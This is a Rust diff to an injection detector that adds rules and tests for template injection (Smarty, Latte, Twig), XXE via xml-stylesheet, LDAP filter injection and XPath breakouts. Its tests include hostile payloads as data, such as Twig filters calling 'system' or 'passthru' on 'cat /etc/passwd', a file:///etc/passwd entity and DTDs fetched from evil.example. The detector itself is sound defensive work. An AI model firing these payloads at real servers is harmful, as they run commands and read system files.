@@ -13,6 +13,8 @@ use super::normalize::{find, trig, Normalized};
 
 const SSTI_OPENERS: Needles = Needles::new(&[
     b"{{", b"${", b"#{", b"*{", b"@{", b"{%", b"<%", b"[[", b"%{", b"@(",
+    // Template Toolkit `[% 7*7 %]`, Latte `{=7*7}`.
+    b"[%", b"{=",
 ]);
 
 /// Words inside a template expression that reach the runtime.
@@ -56,6 +58,16 @@ const SSTI_WORDS: Needles = Needles::new(&[
     b"request.server",
     b"app.request",
     b"|join",
+    // Twig filters handed a PHP callable by name (`['id']|filter('system')`,
+    // `|map("passthru")`); templates pass arrow functions there.
+    b"|filter('",
+    b"|filter(\"",
+    b"|map('",
+    b"|map(\"",
+    b"|reduce('",
+    b"|reduce(\"",
+    b"|sort('",
+    b"|sort(\"",
 ]);
 
 /// Template statements that need no expression to be dangerous.
@@ -81,6 +93,8 @@ const SSTI_ANYWHERE: Needles = Needles::new(&[
     b"${{",
     b"*{t(",
     b"@(7*7)",
+    // Smarty's own variable reaches the engine (`{$smarty.version}`).
+    b"{$smarty.",
 ]);
 
 /// Bytes of a template expression read after its opener (`{{{{...` stays linear).
@@ -91,7 +105,7 @@ pub fn ssti(n: &Normalized) -> bool {
     if !n.has(trig::BRACE | trig::LT | trig::DOLLAR | trig::PAREN) {
         return false;
     }
-    if SSTI_ANYWHERE.found_in(s) {
+    if SSTI_ANYWHERE.found_in(s) || brace_product(s) {
         return true;
     }
     // An opener inside the expression of the previous one (`{{{{...`) has
@@ -121,6 +135,38 @@ pub fn ssti(n: &Normalized) -> bool {
     })
 }
 
+/// `{7*7}`: the single-brace probe of Smarty, Latte and Python's
+/// `str.format` family, a product of two numbers and nothing else. Only
+/// `*`, and not after `^`, `_` or a letter (LaTeX `x^{2+1}`, `\frac{a+b}`
+/// write sums there and name their products). One pass: a digit run stops
+/// at the next `{`.
+fn brace_product(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'{', t)) {
+        let at = from + p;
+        from = at + 1;
+        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'^' | b'_' | b'\\'))
+        {
+            continue;
+        }
+        let digits = |k: usize| {
+            s[k.min(s.len())..]
+                .iter()
+                .take_while(|b| b.is_ascii_digit())
+                .count()
+        };
+        let a = digits(at + 1);
+        if a == 0 || s.get(at + 1 + a) != Some(&b'*') {
+            continue;
+        }
+        let b = digits(at + 2 + a);
+        if b > 0 && s.get(at + 2 + a + b) == Some(&b'}') {
+            return true;
+        }
+    }
+    false
+}
+
 /// A closed expression that is two numbers and a space (`{{4 8}}`): the
 /// `{{4+8}}` probe sent with a raw `+`, which a query string or form reads
 /// as a space; no template holds two bare numbers side by side.
@@ -143,6 +189,10 @@ fn arithmetic(e: &[u8]) -> bool {
             }
             if matches!(e.get(j), Some(b'*' | b'+')) {
                 j += 1;
+                // `7 ** 7`: exponentiation (Jinja, Twig, Python).
+                if e[j - 1] == b'*' && e.get(j) == Some(&b'*') {
+                    j += 1;
+                }
                 while matches!(e.get(j), Some(b' ' | b'\'' | b'"')) {
                     j += 1;
                 }
@@ -206,6 +256,9 @@ pub fn xxe(n: &Normalized) -> bool {
     if ANYWHERE.found_in(s) {
         return true;
     }
+    if find(s, b"<?xml-stylesheet").is_some_and(|at| foreign_stylesheet(&s[at..])) {
+        return true;
+    }
     let mut from = 0;
     while let Some(p) = s.get(from..).and_then(|t| find(t, b"<!doctype")) {
         let at = from + p;
@@ -243,6 +296,20 @@ pub fn xxe(n: &Normalized) -> bool {
         }
     }
     false
+}
+
+/// An `<?xml-stylesheet href=..?>` of any type but CSS (`text/xsl`, none,
+/// `application/xslt+xml`, `text/xml`): a transformation the document asks
+/// its reader to fetch and run. RSS and Atom feeds style themselves with
+/// `type="text/css"`.
+fn foreign_stylesheet(pi: &[u8]) -> bool {
+    let end = pi
+        .iter()
+        .take(DECL_SPAN)
+        .position(|&b| b == b'>')
+        .unwrap_or(pi.len().min(DECL_SPAN));
+    let pi = &pi[..end];
+    find(pi, b"href").is_some() && find(pi, b"text/css").is_none()
 }
 
 /// A `PUBLIC` declaration whose system identifier (the second literal, the
@@ -283,13 +350,30 @@ pub fn ldap(n: &Normalized) -> bool {
         b")(!(",
         b")(&(",
         b")(|(",
+        // Directory attributes no other syntax writes after `(`.
+        b"(objectcategory=",
+        b"(samaccountname=",
+        b"(userpassword=",
+        b"(unicodepwd=",
+        b"(memberof=",
+        b"(useraccountcontrol",
     ]);
     if ALWAYS.found_in(s) {
         return true;
     }
-    const OPENERS: Needles = Needles::new(&[b")(", b"(|(", b"(&(", b"(!("]);
+    // `*) (`: a wildcard's filter closed and the next opened across a
+    // space, which lenient filter parsers skip (`*) (uid=*`); prose puts
+    // one parenthesis after another ("Shirt (blue) (size=L)").
+    const OPENERS: Needles = Needles::new(&[b")(", b"*) (", b"(|(", b"(&(", b"(!("]);
     if OPENERS.any_match(s, |open, p| filter_item(&s[p + open.len()..])) {
         return true;
+    }
+    // A value that opens with a filter operator or a nested filter
+    // (`!(uid=admin)`, `|(cn=x)`, `((uid=admin))`).
+    if let [b'!' | b'&' | b'|' | b'(', b'(', rest @ ..] = s {
+        if filter_item(rest) {
+            return true;
+        }
     }
     // `(uid=*)`: a presence filter on an attribute.
     find(s, b"=*)").is_some_and(|p| {
@@ -395,6 +479,24 @@ fn xpath(s: &[u8]) -> bool {
         })
     {
         return true;
+    }
+    // A number that goes on with `or`/`and` and an XPath function call
+    // (`1 or true()`, `0 and count(/*)=1`): a numeric predicate broken out.
+    let digits = s.iter().take_while(|b| b.is_ascii_digit()).count();
+    if digits > 0 {
+        let rest = &s[digits..];
+        let rest = rest
+            .strip_prefix(b" or ")
+            .or_else(|| rest.strip_prefix(b" and "));
+        if let Some(rest) = rest {
+            let name = rest
+                .iter()
+                .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
+                .count();
+            if rest.get(name) == Some(&b'(') && XPATH_FUNCTIONS.contains(&&rest[..name]) {
+                return true;
+            }
+        }
     }
     // The first quote of each kind: the one that would end the literal.
     for q in [b'\'', b'"'] {
@@ -1056,12 +1158,53 @@ mod tests {
     }
 
     #[test]
+    fn ssti_engines_probed_by_scanners() {
+        for p in [
+            "{7*7}",
+            "x={1337*1337}",
+            "{$smarty.version}",
+            "{=7*7}",
+            "[% 7*7 %]",
+            "{{ 7 ** 7 }}",
+            "{{['id']|filter('system')}}",
+            "{{['cat /etc/passwd']|map(\"passthru\")|join}}",
+            "{{[0]|reduce('system','id')}}",
+        ] {
+            assert!(run(p, &ssti), "{p}");
+        }
+        for p in [
+            "x^{2*3} + \\frac{1*2}{3}",
+            "{{ users|filter(u => u.active) }}",
+            "{{ items|sort((a, b) => a.price <=> b.price) }}",
+            "{7 * 7 rows}",
+            "[%] of total",
+            "{a*b}",
+            "{=}",
+            "{\"n\": 7}",
+        ] {
+            assert!(!run(p, &ssti), "{p}");
+        }
+    }
+
+    #[test]
     fn xxe_ldap_nosql_crlf() {
         assert!(run(
             "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
             &xxe
         ));
         assert!(!run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", &xxe));
+        assert!(run(
+            "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(run(
+            "<?xml-stylesheet type=\"application/xslt+xml\" href=\"x.xsl\"?><a/>",
+            &xxe
+        ));
+        assert!(!run(
+            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss/>",
+            &xxe
+        ));
         // A W3C public id in front of a DTD fetched from elsewhere.
         assert!(run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>", &xxe));
         assert!(run(
@@ -1115,6 +1258,12 @@ mod tests {
             "//user[name='admin' or 1=1]",
             "/users/user[1]/password/text()",
             "/*[1]/*[2]",
+            "1 or true()",
+            "0 and count(/*)=1",
+            "*) (uid=*",
+            "!(uid=admin)",
+            "((uid=admin))",
+            "(objectCategory=person)",
         ] {
             assert!(run(p, &ldap), "{p}");
         }
@@ -1135,6 +1284,12 @@ mod tests {
             "/items[0]/name",
             "/api/v1/search(term)",
             "/docs/or and more[see notes]",
+            "call (555) (123-4567)",
+            "2 or 3 (not(sure))",
+            "1 or not sure",
+            "((a + b))",
+            "(see note) (size=large)",
+            "Shirt (blue) (size=L)",
             "/wiki/Category:Text",
         ] {
             assert!(!run(p, &ldap), "{p}");
